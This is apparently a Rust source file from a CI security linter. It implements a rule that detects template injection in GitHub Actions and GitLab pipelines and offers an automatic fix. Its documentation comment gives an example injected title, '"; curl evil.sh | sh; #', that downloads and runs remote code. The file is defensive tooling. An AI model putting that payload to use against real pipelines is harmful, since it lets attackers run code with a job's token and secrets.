use chainproof_core::{Confidence, Finding, Fix, Severity};

use super::{Cx, Rule, Scope, declare_rule};
use crate::expr::{Taint, context_refs, find_exprs};
use crate::fix::{env_name, insert_entries};
use crate::github::Step;
use crate::gitlab::{GlJob, Pipeline};
use crate::taint::{Source, ref_taint};
use crate::yaml::Node;

declare_rule! {
    /// ## What it does
    /// Finds attacker-controllable text expanded by a template into code: GitHub `${{ }}`
    /// expressions in `run:` and `actions/github-script` scripts, and GitLab component inputs
    /// interpolated with `$[[ inputs.x | expand_vars ]]` into `script:`.
    ///
    /// Taint is followed through `env:`, step outputs, job outputs, and the inputs of reusable
    /// workflows and local composite actions: an `inputs.*` use is reported only when a caller in
    /// this repository passes attacker text (high confidence), or at low severity when no caller is
    /// in the repository.
    ///
    /// A payload field counts only when one of the workflow's triggers carries it
    /// (`github.event.issue.title` needs `issues` or `issue_comment`); reusable workflows run with
    /// their caller's event, so every field counts there.
    ///
    /// ## Why is this bad
    /// Templates are expanded *before* the shell runs, so a pull request titled
    /// `"; curl evil.sh | sh; #` becomes part of the script and runs with the job's token and secrets.
    ///
    /// ## Example
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    ///       - run: echo "${ISSUE_TITLE}"
    ///         env:
    ///           ISSUE_TITLE: ${{ github.event.issue.title }}
    /// ```
    /// `--fix` makes this change for `run:` steps using a POSIX shell.
    ///
    /// ## References
    /// - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
    /// - https://docs.gitlab.com/ci/inputs/#predefined-interpolation-functions
    TemplateInjection {
        id: "template-injection",
        title: "attacker-controllable text expanded into code",
        severity: High,
        confidence: High,
        platforms: ["github", "gitlab"],
        fixable: true,
    }
}

/// A fixable expression: `${{ <single context reference> }}`.
fn simple_reference(inner: &str) -> Option<String> {
    let refs = context_refs(inner);
    let [r] = refs.as_slice() else { return None };
    let compact: String = inner.chars().filter(|c| !c.is_whitespace()).collect();
    (compact.to_ascii_lowercase() == r.replace(".*", "[0]") || compact.to_ascii_lowercase() == *r)
        .then(|| r.clone())
}

fn posix_shell(scope: Scope<'_, '_>, step: &Step<'_>) -> bool {
    let shell = step
        .node
        .get("shell")
        .and_then(Node::as_str)
        .or_else(|| match scope {
            Scope::Workflow { wf, job } => job
                .node
                .path(&["defaults", "run", "shell"])
                .or_else(|| wf.root.path(&["defaults", "run", "shell"]))
                .and_then(Node::as_str),
            Scope::Action(_) => None,
        });
    shell.is_none_or(|s| s.starts_with("bash") || s.starts_with("sh"))
}

impl TemplateInjection {
    fn rate(source: &Source) -> (Severity, Confidence) {
        match (source.taint, source.path.is_empty()) {
            (Taint::Attacker, true) => (Severity::High, Confidence::High),
            (Taint::Attacker, false) => (Severity::High, Confidence::Medium),
            (Taint::Unknown, _) if source.origin.starts_with("inputs.") => {
                (Severity::Low, Confidence::Low)
            }
            (Taint::Unknown, _) => (Severity::Medium, Confidence::Low),
        }
    }

    fn step_fix(
        cx: &Cx<'_, '_>,
        scope: Scope<'_, '_>,
        step: &Step<'_>,
        run: &Node,
        exprs: &[(String, String, usize)],
    ) -> Option<Fix> {
        if !posix_shell(scope, step) || exprs.is_empty() {
            return None;
        }
        let file = cx.sources.get(run.span.file)?.path.clone();
        let mut edits = Vec::new();
        let mut env_lines = Vec::new();
        let existing_env = step.node.get("env");
        for (raw, reference, nth) in exprs {
            let span = cx.locate(run, raw, *nth);
            if span == run.span {
                return None; // not found verbatim in the source (escaped): leave it to a human
            }
            // `${{ env.NAME }}` is already an environment variable: use it from the shell.
            if reference.starts_with("env.") {
                let inner = find_exprs(raw).first().map_or("", |e| e.inner);
                let name = inner
                    .trim()
                    .strip_prefix("env.")
                    .unwrap_or(inner)
                    .to_owned();
                edits.push(chainproof_core::Edit {
                    file: file.clone(),
                    start: span.start,
                    end: span.end,
                    replacement: format!("${{{name}}}"),
                });
                continue;
            }
            let name = env_name(reference);
            edits.push(chainproof_core::Edit {
                file: file.clone(),
                start: span.start,
                end: span.end,
                replacement: format!("${{{name}}}"),
            });
            let value = format!(
                "${{{{ {} }}}}",
                find_exprs(raw).first().map_or("", |e| e.inner)
            );
            match existing_env.and_then(|e| e.get(&name)) {
                Some(v) if v.as_str().map(str::trim) == Some(value.as_str()) => {}
                Some(_) => return None,
                None => {
                    let line = format!("{name}: {value}");
                    if !env_lines.contains(&line) {
                        env_lines.push(line);
                    }
                }
            }
        }
        if !env_lines.is_empty() {
            let insert = match existing_env {
                Some(env) => insert_entries(cx, env, &env_lines)?,
                None => {
                    let mut lines = vec!["env:".to_owned()];
                    lines.extend(env_lines.iter().map(|l| format!("  {l}")));
                    insert_entries(cx, step.node, &lines)?
                }
            };
            edits.push(insert);
        }
        Some(Fix {
            description:
                "move the expression into an `env:` variable and use it as a shell variable".into(),
            edits,
        })
    }
}

impl Rule for TemplateInjection {
    fn info(&self) -> &'static chainproof_core::RuleInfo {
        &Self::INFO
    }

    fn step(&self, cx: &Cx<'_, '_>, scope: Scope<'_, '_>, step: &Step<'_>, out: &mut Vec<Finding>) {
        let (sink, what) = if let Some(run) = step.run() {
            (run, "`run:` script")
        } else if step.uses_action("actions/github-script") {
            match step.with("script") {
                Some(s) => (s, "`actions/github-script` script"),
                None => return,
            }
        } else {
            return;
        };
        let Some(text) = sink.as_str() else { return };
        let mut start = out.len();
        let mut fixable = Vec::new();
        let mut seen: Vec<String> = Vec::new();
        for e in find_exprs(text) {
            let raw = e.raw(text).to_owned();
            let nth = seen.iter().filter(|s| **s == raw).count();
            seen.push(raw.clone());
            let best = context_refs(e.inner)
                .iter()
                .filter_map(|r| ref_taint(cx, scope, Some(step), r, 0))
                .min_by_key(|s| (s.taint, s.path.len()));
            let Some(source) = best else { continue };
            let (severity, confidence) = Self::rate(&source);
            let span = cx.locate(sink, &raw, nth);
            let mut f = cx
                .finding(
                    &Self::INFO,
                    span,
                    "expanded before the script runs",
                    format!(
                        "{} reaches the {what} of {}",
                        source.describe(),
                        step.label()
                    ),
                )
                .severity(severity)
                .confidence(confidence);
            f = cx.with_path(f, &source.path);
            out.push(f);
            if step.run().is_some() {
                match simple_reference(e.inner) {
                    Some(r) => fixable.push((raw, r, nth)),
                    None => start = usize::MAX, // one unfixable expression: no partial fix for the step
                }
            }
        }
        if start != usize::MAX && start < out.len() {
            if let Some(fix) = step
                .run()
                .and_then(|run| Self::step_fix(cx, scope, step, run, &fixable))
            {
                for f in &mut out[start..] {
                    f.fix = Some(fix.clone());
                }
            }
        }
    }

    fn gitlab_job(
        &self,
        cx: &Cx<'_, '_>,
        pipeline: &Pipeline,
        job: &GlJob,
        out: &mut Vec<Finding>,
    ) {
        if !pipeline.is_component() {
            return;
        }
        for line in job.script_lines() {
            let Some(text) = line.as_str() else { continue };
            let mut rest = text;
            while let Some(i) = rest.find("$[[") {
                let after = &rest[i..];
                let Some(end) = after.find("]]") else { break };
                let raw = &after[..end + 2];
                if raw.contains("expand_vars") {
                    out.push(
                        cx.finding(
                            &Self::INFO,
                            cx.locate(line, raw, 0),
                            "CI/CD variables expanded into the script text",
                            format!(
                                "`{raw}` in job `{}` expands variables such as $CI_COMMIT_MESSAGE into the script before the shell parses it",
                                job.name
                            ),
                        )
                        .confidence(Confidence::Medium),
                    );
                }
                rest = &after[end + 2..];
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::simple_reference;

    #[test]
    fn simple_references() {
        assert_eq!(
            simple_reference(" github.event.issue.title ").as_deref(),
            Some("github.event.issue.title")
        );
        assert_eq!(simple_reference("github.event['issue'].title"), None);
        assert_eq!(simple_reference("format('{0}', github.head_ref)"), None);
    }
}
